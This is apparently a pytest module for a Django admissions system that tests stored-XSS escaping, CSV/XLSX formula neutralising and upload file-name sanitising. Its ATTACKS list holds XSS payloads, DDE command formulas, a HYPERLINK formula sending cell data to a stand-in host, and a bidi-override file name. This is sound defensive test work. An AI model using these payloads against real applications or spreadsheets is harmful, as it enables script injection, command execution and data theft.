"""Stored XSS and formula injection, the parts proved so far: the spreadsheet neutraliser on any
text and uploaded file names stripped of markup and bidi overrides. The helpers below (an
applicant saving hostile names through the real forms, CSV/XLSX cell readers) are for the page,
export and letter tests, which are still too slow for CI (branch `sec`, issue 11.8).
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse
from django.utils.html import escape
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts.models import Role
from admissions.appeals.services import appeal_lodge
from admissions.applications.models import (
    Application,
    PriorEducation,
    RecruitmentChannel,
    Situation,
)
from admissions.files import uploads
from admissions.files.spreadsheets import FORMULA_STARTS, spreadsheet_row, spreadsheet_safe
from tests.admissions.appeals_support import published, result_of
from tests.admissions.intake_support import staff_client
from tests.admissions.letters_support import (
    letters_media,  # noqa: F401 - the fixture
)
from tests.factories import (
    IntakePeriodFactory,
    MembershipFactory,
    MunicipalityFactory,
    OfferingFactory,
    UserFactory,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("letters_media")]

HOST = "hemland.example.test"
FUZZ = settings(
    max_examples=5,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "</textarea></title><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "\u202egnp.exe",
    '=HYPERLINK("http://x.test/?"&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{{ request.user }}{% now 'Y' %}",
)
# The markup an attack would leave in a page if anything printed it unescaped.
RAW_MARKUP = re.compile(
    r"<script>alert|onerror=alert|onload=alert|<iframe srcdoc|href=\"javascript:", re.I
)
_plain = st.text(
    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=12
)


@st.composite
def hostile_texts(draw, max_size: int = 100) -> str:
    """Plain text around one or more attacks, sometimes repeated to a very long string, cut to
    what the field holds, and stripped as the forms strip."""
    attacks = draw(st.lists(st.sampled_from(ATTACKS), min_size=1, max_size=3))
    text = draw(_plain) + "".join(attacks) + draw(_plain)
    if draw(st.booleans()):
        text = text * (max_size // max(1, len(text)) + 1)
    return text[:max_size].strip() or ATTACKS[0]


def assert_inert(html: str, *texts: str, shown: bool = True) -> None:
    """No attack's markup in the page; each text, where the page shows it, escaped."""
    assert not RAW_MARKUP.search(html)
    for text in texts:
        if escape(text) != text:
            assert text not in html
        if shown:
            assert escape(text) in html


# --- an applicant's application through the real forms, and the intake office's pages ----------


@pytest.fixture
def world(region):
    karlstad = MunicipalityFactory(region=region, code="1780", name="Karlstad")
    period = IntakePeriodFactory(region=region, code="ht2027")
    offering = OfferingFactory(region=region, intake_period=period)
    return {
        "karlstad": karlstad,
        "offering": offering,
        "officer": staff_client(region),
        "admin": staff_client(region, role=Role.REGION_ADMIN),
    }


def applicant_submits(region, world, *, first: str, last: str, free_text: str) -> Application:
    """A new applicant fills every step with the given texts and submits, as in the browser."""
    from django.test import Client

    user = UserFactory()
    MembershipFactory(region=region, role=Role.APPLICANT, user=user)
    client = Client(HTTP_HOST=HOST, HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(user)
    client.post(reverse("admissions:apply_start", args=[world["offering"].pk]))
    application = Application.objects.get(applicant=user)

    def step(name, data):
        url = reverse("admissions:application_step", kwargs={"pk": application.pk, "step": name})
        return client.post(url, data)

    step(
        "identity",
        {
            "first_name": first,
            "last_name": last,
            "birth_date": "1985-03-12",
            "has_no_identity_number": "on",
        },
    )
    step(
        "contact",
        {
            "email": f"a{user.pk}@example.test",
            "home_municipality": world["karlstad"].pk,
            "street_address": free_text[:100],
            "city": free_text[:60],
        },
    )
    step(
        "background",
        {
            "prior_education": PriorEducation.UPPER_SECONDARY,
            "situation": Situation.UNEMPLOYED,
            "recruitment_channel": RecruitmentChannel.SFI,
        },
    )
    step("validation", {"validation_description": free_text})
    step("review", {"consent": "on"})
    application.refresh_from_db()
    return application


def cells_of_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def cells_of_xlsx(content: bytes) -> list[list]:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            # openpyxl reads a stored formula back as data type "f".
            assert cell.data_type != "f", cell.value
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def assert_no_formula(rows) -> None:
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS), value


@given(value=st.text(max_size=50))
def test_the_neutraliser_keeps_the_text_and_never_starts_with_a_formula_sign(value):
    safe = spreadsheet_safe(value)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe in (value, "'" + value)
    assert spreadsheet_row([value, 3, None, -1]) == [safe, 3, None, -1]


# --- appeals, rounds and the letter ------------------------------------------------------------


@pytest.fixture
def appealed(region):
    decided, _letter = published(region)
    from admissions.rounds.models import Outcome

    appeal = appeal_lodge(
        acting_user=decided.application.applicant,
        application=decided.application,
        result=result_of(decided, Outcome.NOT_ELIGIBLE),
        requested_change="Behörig.",
        grounds="Se intyget.",
    )
    return decided, appeal, staff_client(region)


# --- file names --------------------------------------------------------------------------------


@given(name=hostile_texts(max_size=200))
def test_an_uploaded_file_name_loses_markup_controls_and_bidi_overrides(name):
    shown = uploads.masked_name(name + ".pdf", "application/pdf")
    assert shown.endswith(".pdf")
    assert not set(shown) & set('<>"\\/\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069')
